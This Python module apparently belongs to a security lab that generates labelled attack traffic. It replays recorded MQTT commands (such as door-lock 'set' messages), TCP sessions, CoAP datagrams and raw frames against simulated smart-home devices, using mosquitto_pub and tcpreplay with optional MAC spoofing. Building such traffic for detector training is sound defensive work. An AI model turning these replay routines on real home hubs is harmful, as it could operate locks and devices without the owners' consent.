"""Four ways to send recorded traffic again: a command, a session, a datagram, whole frames."""
# ruff: noqa: PLR0913  (one keyword per property of a device or strength of an attack)

import time
from collections.abc import Sequence

from model_training.lab.attacks import common, intrude
from model_training.lab.errors import LabError
from model_training.lab.frames import TCP, UDP, Frame, both_ways, write_pcap
from model_training.lab.labels import Claim, Echo, Flows, digest
from model_training.lab.stage import Stage

BROKER_PORT, COAP_PORT, PLUG_PORT = 1883, 5683, 9999
_SETTLED_NS = 3_000_000_000


def replay_command(
    stage: Stage,
    attacker: str,
    victim: str,
    *,
    times: int = 8,
    pause_s: float = 1.0,
    one_connection: bool = False,
    qos: int = 0,
) -> list[Claim]:
    """Publish the last recorded command for `victim` ("lock", "lamp") again from another host."""
    topic, payload = _last_command(stage.seen(), f"home/{victim}/".encode())
    start_ns, hub = time.time_ns(), stage.nodes["hub"]
    argv = [
        "mosquitto_pub",
        "-h",
        hub.ip,
        "-i",
        f"{attacker}-1",
        "-q",
        str(qos),
        "-t",
        topic,
        "-m",
        payload,
    ]
    if one_connection:
        argv += ["--repeat", str(times), "--repeat-delay", str(pause_s)]
        stage.run(attacker, argv, timeout_s=times * (pause_s + 2))
    else:
        for _ in range(times):
            stage.run(attacker, argv)
            time.sleep(pause_s * stage.rng.uniform(0.7, 1.3))
    victims = (hub.ip, stage.nodes[victim].ip)
    facts = common(
        stage, ("Replay", "mqtt_command_replay", "mosquitto_pub"), attacker, victims, start_ns
    )
    claim = Flows(
        **facts, protocol=TCP, peers=(hub.ip,), ports=(BROKER_PORT,), contents=payload.encode()
    )
    return [claim]


def _last_command(frames: Sequence[Frame], topic_start: bytes) -> tuple[str, str]:
    """Return topic and payload of the last PUBLISH to the broker whose topic starts so."""
    for frame in reversed(frames):
        at = frame.payload.find(topic_start)
        if frame.dst_port == BROKER_PORT and at >= 4 and b"/set" in frame.payload:  # noqa: PLR2004  (behind the header)
            return _split_publish(frame.payload[at - 2 :], qos=frame.payload[at - 4] >> 1 & 3)
    message = f"no command for {topic_start.decode()} was recorded before the replay"
    raise LabError(message)


def _split_publish(body: bytes, *, qos: int) -> tuple[str, str]:
    """Split topic and payload of one short PUBLISH (its remaining length fits one byte)."""
    topic_bytes = int.from_bytes(body[:2], "big")
    start = 2 + topic_bytes + (2 if qos else 0)
    end = body.index(b"}", start) + 1
    return body[2 : 2 + topic_bytes].decode(), body[start:end].decode()


def replay_session(
    stage: Stage,
    attacker: str,
    victim: str,
    *,
    port: int = PLUG_PORT,
    times: int = 6,
    pause_s: float = 1.5,
) -> list[Claim]:
    """Send what `attacker` itself once sent to `victim` over TCP again, on new connections."""
    source, target = stage.nodes[attacker].ip, stage.nodes[victim].ip
    flow = _last_flow(stage.seen(), TCP, source, target, port)
    parts = [frame.payload.hex() for frame in flow if frame.src_ip == source and frame.payload]
    start_ns = time.time_ns()
    job = {"target": target, "port": port, "parts": parts, "times": times, "pause_s": pause_s}
    ports = intrude(stage, attacker, "resend_tcp", **job)
    facts = common(
        stage, ("Replay", "tcp_session_replay", "edgewarden-lab"), attacker, (target,), start_ns
    )
    return [Flows(**facts, protocol=TCP, peers=(target,), ports=(port,), local_ports=(*ports, 0))]


def replay_datagram(
    stage: Stage,
    attacker: str,
    victim: str,
    *,
    recorded_from: str = "hub",
    port: int = COAP_PORT,
    times: int = 8,
    pause_s: float = 1.0,
) -> list[Claim]:
    """Send a recorded datagram to `victim` again."""
    source, target = stage.nodes[recorded_from].ip, stage.nodes[victim].ip
    flow = _last_flow(stage.seen(), UDP, source, target, port)
    parts = [next(frame.payload.hex() for frame in flow if frame.src_ip == source)]
    start_ns = time.time_ns()
    job = {"target": target, "port": port, "parts": parts, "times": times, "pause_s": pause_s}
    ports = intrude(stage, attacker, "resend_udp", **job)
    facts = common(
        stage, ("Replay", "udp_datagram_replay", "edgewarden-lab"), attacker, (target,), start_ns
    )
    return [Flows(**facts, protocol=UDP, peers=(target,), ports=(port,), local_ports=(*ports, 0))]


def replay_frames(
    stage: Stage,
    attacker: str,
    victim: str,
    *,
    recorded_from: str = "hub",
    port: int = COAP_PORT,
    times: int = 8,
    rate: float = 2.0,
    own_mac: bool = False,
) -> list[Claim]:
    """Put the frames of a recorded, finished exchange on the wire again with tcpreplay."""
    node, source, target = (stage.nodes[name] for name in (attacker, recorded_from, victim))
    protocol = UDP if port == COAP_PORT else TCP
    flow = _last_flow(stage.seen(), protocol, source.ip, target.ip, port)
    recorded = [frame for frame in flow if frame.src_ip == source.ip]
    mac = bytes.fromhex(node.mac.replace(":", ""))
    raws = [f.raw[:6] + mac + f.raw[12:] if own_mac else f.raw for f in recorded]
    path = stage.network.work_dir / "recorded.pcap"
    write_pcap(path, [(frame.time_ns, raw) for frame, raw in zip(recorded, raws, strict=True)])
    start_ns = time.time_ns()
    argv = ["tcpreplay", "-q", "-i", "eth0", f"--pps={rate}", f"--loop={times}", str(path)]
    stage.run(attacker, argv)
    victims = (target.ip,)
    facts = common(stage, ("Replay", "tcpreplay_frames", "tcpreplay"), attacker, victims, start_ns)
    flows = frozenset({recorded[0].flow})
    return [Echo(**facts, digests=frozenset(digest(raw) for raw in raws), flows=flows)]


def _last_flow(
    frames: Sequence[Frame], protocol: int, source: str, target: str, port: int
) -> list[Frame]:
    """Return the frames of the last finished flow from `source` to `target`:`port` with data.

    Raises:
        LabError: None was recorded yet.
    """
    latest_ns = frames[-1].time_ns - _SETTLED_NS if frames else 0
    wanted = [
        f for f in frames if f.protocol == protocol and f.src_ip == source and f.dst_ip == target
    ]
    for frame in reversed(wanted):
        if frame.dst_port == port and frame.payload and frame.time_ns < latest_ns:
            return [f for f in frames if f.protocol and f.flow == both_ways(frame.tuple5)]
    message = f"nothing from {source} to {target}:{port} was recorded before the replay"
    raise LabError(message)
